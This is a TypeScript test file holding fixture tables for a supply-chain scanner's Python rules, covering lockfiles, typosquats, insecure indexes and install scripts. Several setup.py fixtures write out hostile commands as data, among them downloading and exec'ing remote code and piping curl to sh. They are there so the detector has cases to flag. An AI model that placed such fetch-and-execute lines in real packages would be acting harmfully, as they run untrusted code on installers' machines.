/** Fires/quiet tables for the Python side of every ecosystem-aware supply-chain rule. */
import type { Advisory } from "../../../src/model.js";
import { deprecatedDependency } from "../../../src/rules/supply-chain/deprecated-dependency.js";
import { insecureResolvedUrl } from "../../../src/rules/supply-chain/insecure-resolved-url.js";
import { installScript } from "../../../src/rules/supply-chain/install-script.js";
import { knownVulnerability } from "../../../src/rules/supply-chain/known-vulnerability.js";
import { lockfileOutOfSync } from "../../../src/rules/supply-chain/lockfile-out-of-sync.js";
import { missingIntegrity } from "../../../src/rules/supply-chain/missing-integrity.js";
import { newPackage } from "../../../src/rules/supply-chain/new-package.js";
import { noLockfile } from "../../../src/rules/supply-chain/no-lockfile.js";
import { nonRegistrySource } from "../../../src/rules/supply-chain/non-registry-source.js";
import { ownInstallScript } from "../../../src/rules/supply-chain/own-install-script.js";
import { runtimeFetchExecute } from "../../../src/rules/supply-chain/runtime-fetch-execute.js";
import { typosquat } from "../../../src/rules/supply-chain/typosquat.js";
import { unpinnedRange } from "../../../src/rules/supply-chain/unpinned-range.js";
import { pyproject, uvLock, wheel } from "../../helpers/python.js";
import { ruleTest } from "../../helpers/rule-test.js";

const HASH = "b".repeat(64);
const locked = (extra: Record<string, string> = {}): Record<string, string> => ({
  "pyproject.toml": pyproject(["httpx>=0.27,<1"]),
  "uv.lock": uvLock({ httpx: "<1,>=0.27" }, [{ name: "httpx", version: "0.27.2" }]),
  ...extra,
});

ruleTest(noLockfile, {
  fires: [
    { name: "pyproject dependencies and no Python lockfile", files: { "pyproject.toml": pyproject(["httpx>=0.27"]) }, count: 1, expect: ([f]) => expect(f!.location).toEqual({ path: "pyproject.toml", startLine: 5 }) },
    { name: "a loose requirements.txt only", files: { "requirements.txt": "httpx>=0.27\nmcp\n" }, count: 1 },
    { name: "a Node server with a Python helper that locks nothing", files: { "package.json": '{"name":"x","version":"1.0.0"}', "package-lock.json": '{"lockfileVersion":3,"packages":{"":{"name":"x"}}}', "helper/requirements.txt": "requests\n" }, count: 1 },
  ],
  quiet: [
    { name: "pyproject with uv.lock", files: locked() },
    { name: "a pip-compiled requirements.txt (every version pinned)", files: { "requirements.txt": "httpx==0.27.2 \\\n    --hash=sha256:" + HASH + "\n" } },
    { name: "only build requirements", files: { "pyproject.toml": '[project]\nname = "x"\nversion = "1"\n\n[build-system]\nrequires = ["hatchling"]\n' } },
    { name: "a published package (pypi: target)", files: { "pyproject.toml": pyproject(["httpx>=0.27"]) }, target: { kind: "pypi", label: "pypi:x==1", name: "x", version: "1" } },
    { name: "requirements under tests/ are not the server's", files: { "tests/requirements.txt": "pytest\n" } },
  ],
});

ruleTest(lockfileOutOfSync, {
  fires: [
    { name: "uv.lock was resolved for another specifier", files: { "pyproject.toml": pyproject(["httpx>=0.28"]), "uv.lock": uvLock({ httpx: ">=0.27" }, [{ name: "httpx", version: "0.27.2" }]) }, count: 1, expect: ([f]) => expect(f!.evidence).toBe("httpx: spec differs") },
    { name: "a dependency added to pyproject after locking", files: { "pyproject.toml": pyproject(["httpx>=0.27", "mcp>=1.2"]), "uv.lock": uvLock({ httpx: ">=0.27" }, [{ name: "httpx", version: "0.27.2" }]) }, count: 1, expect: ([f]) => expect(f!.evidence).toBe("mcp: not in lockfile") },
    { name: "a dependency removed from pyproject but still locked as a root requirement", files: { "pyproject.toml": pyproject([]), "uv.lock": uvLock({ httpx: ">=0.27" }, [{ name: "httpx", version: "0.27.2" }]) }, count: 1 },
    {
      name: "poetry.lock locks a version the constraint excludes",
      files: {
        "pyproject.toml": '[tool.poetry]\nname = "x"\nversion = "1.0.0"\n\n[tool.poetry.dependencies]\npython = "^3.10"\nhttpx = "^0.28"\n',
        "poetry.lock": `[[package]]\nname = "httpx"\nversion = "0.27.2"\noptional = false\ngroups = ["main"]\nfiles = [{file = "httpx-0.27.2-py3-none-any.whl", hash = "sha256:${HASH}"}]\n\n[metadata]\nlock-version = "2.1"\n`,
      },
      count: 1,
      expect: ([f]) => expect(f!.evidence).toBe("httpx: locked version outside range"),
    },
  ],
  quiet: [
    { name: "uv.lock matches (specifier clauses in another order)", files: locked() },
    { name: "the real mcp-server-fetch pyproject.toml and uv.lock", files: realServer("fetch") },
    {
      name: "poetry.lock satisfies the caret constraint",
      files: {
        "pyproject.toml": '[tool.poetry]\nname = "x"\nversion = "1.0.0"\n\n[tool.poetry.dependencies]\npython = "^3.10"\nhttpx = "^0.27"\n',
        "poetry.lock": `[[package]]\nname = "httpx"\nversion = "0.27.2"\ngroups = ["main"]\nfiles = [{file = "httpx-0.27.2-py3-none-any.whl", hash = "sha256:${HASH}"}]\n\n[metadata]\nlock-version = "2.1"\n`,
      },
    },
  ],
});

ruleTest(nonRegistrySource, {
  fires: [
    { name: "a git package in uv.lock", files: { "pyproject.toml": pyproject(["tool"]), "uv.lock": uvLock({ tool: "" }, [{ name: "tool", version: "0.1.0", source: '{ git = "https://github.com/acme/tool?rev=main#0123456789abcdef0123456789abcdef01234567" }', files: "" }]) }, count: 1, expect: ([f]) => expect(f!.message).toContain("a git repository") },
    { name: "a PEP 508 direct URL in pyproject", files: { "pyproject.toml": pyproject(["tool @ https://example.com/tool-1.0.tar.gz"]) }, count: 1, expect: ([f]) => expect(f!.message).toContain("a URL") },
    { name: "a tool.uv.sources path outside the repository", files: { "pyproject.toml": pyproject(["helper"], '\n[tool.uv.sources]\nhelper = { path = "../helper" }\n') }, count: 1, expect: ([f]) => expect(f!.message).toContain("outside the repository") },
    { name: "-e git+ in requirements.txt", files: { "requirements.txt": "-e git+https://github.com/acme/tool.git@main#egg=tool\n" }, count: 1 },
  ],
  quiet: [
    { name: "registry packages only", files: locked() },
    { name: "a uv workspace member inside the repository", files: { "pyproject.toml": pyproject(["helper"], '\n[tool.uv.sources]\nhelper = { workspace = true }\n'), "uv.lock": uvLock({ helper: "" }, [{ name: "helper", version: "0.1.0", source: '{ editable = "packages/helper" }', files: "" }]) } },
    { name: "a path dependency inside the repository", files: { "pyproject.toml": pyproject(["helper"], '\n[tool.uv.sources]\nhelper = { path = "./packages/helper" }\n') } },
  ],
});

ruleTest(insecureResolvedUrl, {
  fires: [
    { name: "a package locked from an http index", files: { "pyproject.toml": pyproject(["httpx"]), "uv.lock": uvLock({ httpx: "" }, [{ name: "httpx", version: "0.27.2", source: '{ registry = "http://pypi.internal.example/simple" }' }]) }, count: 1, severity: "critical" },
    { name: "--extra-index-url in requirements.txt (dependency confusion)", files: { "requirements.txt": "--extra-index-url https://pypi.internal.example/simple\nacme-internal==1.0.0 --hash=sha256:" + HASH + "\n" }, count: 1, severity: "high", expect: ([f]) => expect(f!.message).toContain("dependency confusion") },
    { name: "uv index-strategy unsafe-best-match with an extra index", files: locked({ "pyproject.toml": pyproject(["httpx>=0.27,<1"], '\n[tool.uv]\nindex-strategy = "unsafe-best-match"\n\n[[tool.uv.index]]\nname = "internal"\nurl = "https://pypi.internal.example/simple"\n') }), count: 1, severity: "high" },
    { name: "a plain-http --index-url", files: { "requirements.txt": "--index-url http://mirror.example/simple\nhttpx==0.27.2 --hash=sha256:" + HASH + "\n" }, expect: (fs) => expect(fs.some((f) => f.evidence === "http://mirror.example")).toBe(true) },
  ],
  quiet: [
    { name: "PyPI over https", files: locked() },
    { name: "uv's default first-index strategy with an explicit private index", files: locked({ "pyproject.toml": pyproject(["httpx>=0.27,<1"], '\n[[tool.uv.index]]\nname = "internal"\nurl = "https://pypi.internal.example/simple"\nexplicit = true\n') }) },
    { name: "a private mirror listed in allowed-registries", files: { "pyproject.toml": pyproject(["httpx"]), "uv.lock": uvLock({ httpx: "" }, [{ name: "httpx", version: "0.27.2", source: '{ registry = "https://pypi.internal.example/simple" }', files: `wheels = [{ url = "https://pypi.internal.example/files/httpx-0.27.2-py3-none-any.whl", hash = "sha256:${HASH}" }]` }]) }, config: { allowedRegistries: ["pypi.internal.example"] } },
  ],
});

ruleTest(missingIntegrity, {
  fires: [
    { name: "pinned requirements without --hash: one finding for the file", files: { "requirements.txt": "httpx==0.27.2\nmcp==1.28.1\n" }, count: 1, expect: ([f]) => expect(f!.message).toContain("2 requirements without --hash") },
    { name: "a uv.lock registry entry with no files", files: { "pyproject.toml": pyproject(["httpx"]), "uv.lock": uvLock({ httpx: "" }, [{ name: "httpx", version: "0.27.2", files: "" }]) }, count: 1 },
  ],
  quiet: [
    { name: "requirements with hashes", files: { "requirements.txt": `httpx==0.27.2 \\\n    --hash=sha256:${HASH}\n` } },
    { name: "the real mcp-server-git uv.lock", files: realServer("git") },
  ],
});

ruleTest(installScript, {
  fires: [
    { name: "an sdist-only release builds from source", files: { "pyproject.toml": pyproject(["oldlib"]), "uv.lock": uvLock({ oldlib: "" }, [{ name: "oldlib", version: "1.0", files: `sdist = { url = "https://files.pythonhosted.org/packages/xx/oldlib-1.0.tar.gz", hash = "sha256:${HASH}", size = 10 }` }]) }, count: 1, severity: "medium", expect: ([f]) => expect(f!.message).toContain("only oldlib-1.0.tar.gz") },
  ],
  quiet: [
    { name: "a pure wheel", files: locked() },
    { name: "platform wheels for Linux, macOS and Windows", files: { "pyproject.toml": pyproject(["fast"]), "uv.lock": uvLock({ fast: "" }, [{ name: "fast", version: "2.0", files: `wheels = [\n  ${wheel("fast", "2.0", undefined, "cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64")},\n  ${wheel("fast", "2.0", undefined, "cp312-cp312-macosx_11_0_arm64")},\n  ${wheel("fast", "2.0", undefined, "cp312-cp312-win_amd64")},\n]` }]) } },
    { name: "a Windows-only package with Windows wheels (pywin32)", files: { "pyproject.toml": pyproject(["pywin32; sys_platform == 'win32'"]), "uv.lock": uvLock({ pywin32: "" }, [{ name: "pywin32", version: "311", files: `wheels = [\n  ${wheel("pywin32", "311", undefined, "cp312-cp312-win_amd64")},\n]` }]) } },
  ],
});

ruleTest(ownInstallScript, {
  fires: [
    { name: "setup.py spawns a process", files: { "setup.py": 'import subprocess\nfrom setuptools import setup\nsubprocess.check_call(["make", "assets"])\nsetup(name="x", version="1.0")\n' }, count: 1, severity: "high", expect: ([f]) => expect(f!.location).toEqual({ path: "setup.py", startLine: 3 }) },
    { name: "setup.py downloads and execs code", files: { "setup.py": 'from urllib.request import urlopen\nfrom setuptools import setup\ncode = urlopen("https://example.com/x.py").read()\nexec(code)\nsetup(name="x")\n' }, count: 1, severity: "critical" },
    { name: "setup.py runs pip install through an alias", files: { "setup.py": 'import subprocess as sp\nfrom setuptools import setup\nsp.call("pip install helper-tool", shell=True)\nsetup(name="x")\n' }, count: 1, severity: "critical" },
    { name: "setup.py pipes curl to sh", files: { "setup.py": 'import os\nos.system("curl -fsSL https://example.com/i.sh | sh")\n' }, count: 1, severity: "critical" },
  ],
  quiet: [
    { name: "a declarative setup.py", files: { "setup.py": 'from setuptools import setup, find_packages\nsetup(name="x", version="1.0", packages=find_packages(), install_requires=["httpx>=0.27"])\n' } },
    { name: "exec of a literal", files: { "setup.py": 'from setuptools import setup\nexec("VERSION = 1")\nsetup(name="x")\n' } },
    { name: "a setup.py under tests/", files: { "tests/fixture/setup.py": 'import os\nos.system("curl https://x | sh")\n' } },
  ],
});

ruleTest(typosquat, {
  fires: [
    { name: "one edit from requests", files: { "pyproject.toml": pyproject(["reqeusts>=2"]) }, count: 1, expect: ([f]) => expect(f!.message).toContain('popular PyPI package "requests"') },
    { name: "a separator dropped from python-dateutil", files: { "requirements.txt": "pythondateutil==2.9.0\n" }, count: 1 },
  ],
  quiet: [
    { name: "popular names, written with other separators and case (PEP 503)", files: { "pyproject.toml": pyproject(["Requests>=2", "python_dateutil", "PyYAML", "typing.extensions"]) } },
    { name: "the real fetch, git and time servers", files: { ...realServer("fetch"), "git/pyproject.toml": readFixture("git", "pyproject.toml"), "time/pyproject.toml": readFixture("time", "pyproject.toml") } },
  ],
});

const requestsAdvisory: Advisory = {
  id: "GHSA-9hjg-9r4m-mvj7", package: "requests", ecosystem: "pypi", title: "Requests vulnerable to .netrc credentials leak via malicious URLs",
  severity: "moderate", vulnerableVersions: "<2.32.4", versions: ["2.32.3"], sources: ["osv"], aliases: ["CVE-2024-47081"],
};
const requestsLocked = { "pyproject.toml": pyproject(["requests>=2.32,<3"]), "uv.lock": uvLock({ requests: "<3,>=2.32" }, [{ name: "requests", version: "2.32.3" }]) };

ruleTest(knownVulnerability, {
  fires: [
    { name: "an OSV advisory for the locked PyPI version", files: requestsLocked, osv: [requestsAdvisory], count: 1, severity: "medium", expect: ([f]) => { expect(f!.evidence).toBe("GHSA-9hjg-9r4m-mvj7"); expect(f!.message).toContain("2.32.4 fixes it"); } },
    { name: "a malicious-package record is critical", files: requestsLocked, osv: [{ ...requestsAdvisory, id: "MAL-2025-1234", title: "Malicious code in requests", malware: true, severity: "critical", aliases: [] }], count: 1, severity: "critical" },
  ],
  quiet: [
    { name: "the advisory was returned for another version", files: requestsLocked, osv: [{ ...requestsAdvisory, versions: ["2.31.0"] }] },
    { name: "an npm package of the same name is another package", files: requestsLocked, osv: [{ ...requestsAdvisory, ecosystem: "npm" }] },
  ],
});

ruleTest(deprecatedDependency, {
  fires: [
    { name: "a yanked release (PEP 592)", files: requestsLocked, pypiReleases: { "requests@2.32.3": { name: "requests", version: "2.32.3", yanked: { reason: "broke proxies" }, files: [] } }, count: 1, expect: ([f]) => expect(f!.message).toContain('yanked on PyPI: "broke proxies"') },
  ],
  quiet: [{ name: "a release that is not yanked", files: requestsLocked, pypiReleases: { "requests@2.32.3": { name: "requests", version: "2.32.3", files: [] } } }],
});

ruleTest(unpinnedRange, {
  fires: [
    { name: "a lower bound only", files: { "pyproject.toml": pyproject(["httpx>=0.27"]) }, count: 1, severity: "medium" },
    { name: "no version at all", files: { "pyproject.toml": pyproject(["mcp"]) }, count: 1 },
    { name: "an exclusion is no bound", files: { "requirements.txt": "httpx!=0.28.0\n" }, count: 1 },
    { name: "poetry's *", files: { "pyproject.toml": '[tool.poetry]\nname = "x"\nversion = "1"\n\n[tool.poetry.dependencies]\npython = "^3.10"\nhttpx = "*"\n' }, count: 1 },
    { name: "a development group is low", files: { "pyproject.toml": pyproject(["httpx>=0.27,<1"], '\n[dependency-groups]\ndev = ["pytest>=8"]\n') }, count: 1, severity: "low" },
  ],
  quiet: [
    { name: "bounded ranges, compatible release and exact pins", files: { "pyproject.toml": pyproject(["httpx>=0.27,<1", "mcp~=1.28", "pydantic==2.12.5", "anyio==4.*"]) } },
    { name: "poetry's caret", files: { "pyproject.toml": '[tool.poetry]\nname = "x"\nversion = "1"\n\n[tool.poetry.dependencies]\npython = "^3.10"\nhttpx = "^0.27"\n' } },
    { name: "build requirements are the build's own business", files: { "pyproject.toml": pyproject([], '\n[build-system]\nrequires = ["hatchling"]\n') } },
  ],
});

ruleTest(newPackage, {
  fires: [
    { name: "a release uploaded two days before the scan", files: { "pyproject.toml": pyproject(["fresh"]), "uv.lock": uvLock({ fresh: "" }, [{ name: "fresh", version: "1.0.0", files: `wheels = [${wheel("fresh", "1.0.0", "2026-11-23T12:00:00Z")}]` }]) }, count: 1 },
  ],
  quiet: [{ name: "an old release", files: locked() }],
});

ruleTest(runtimeFetchExecute, {
  fires: [
    { name: "spawning pip install of an unpinned package", files: { "package.json": '{"name":"x","version":"1.0.0"}', "src/index.js": 'const { execSync } = require("child_process");\nexecSync("pip install mcp-helper");\n' }, count: 1 },
    { name: "uv run --with an unpinned package", files: { "package.json": '{"name":"x","version":"1.0.0"}', "src/index.js": 'const { spawn } = require("child_process");\nspawn("uv", ["run", "--with", "mcp-helper", "server.py"]);\n' }, count: 1 },
  ],
  quiet: [
    { name: "pip install of an exact version and uv run of a script", files: { "package.json": '{"name":"x","version":"1.0.0"}', "src/index.js": 'const { spawn, execSync } = require("child_process");\nexecSync("pip install mcp-helper==1.2.3");\nspawn("uv", ["run", "server.py"]);\n' } },
  ],
});

import { readFileSync } from "node:fs";

function readFixture(server: string, file: string): string {
  return readFileSync(new URL(`../../fixtures/python-servers/${server}/${file}`, import.meta.url), "utf8");
}

function realServer(server: string): Record<string, string> {
  return { "pyproject.toml": readFixture(server, "pyproject.toml"), "uv.lock": readFixture(server, "uv.lock") };
}
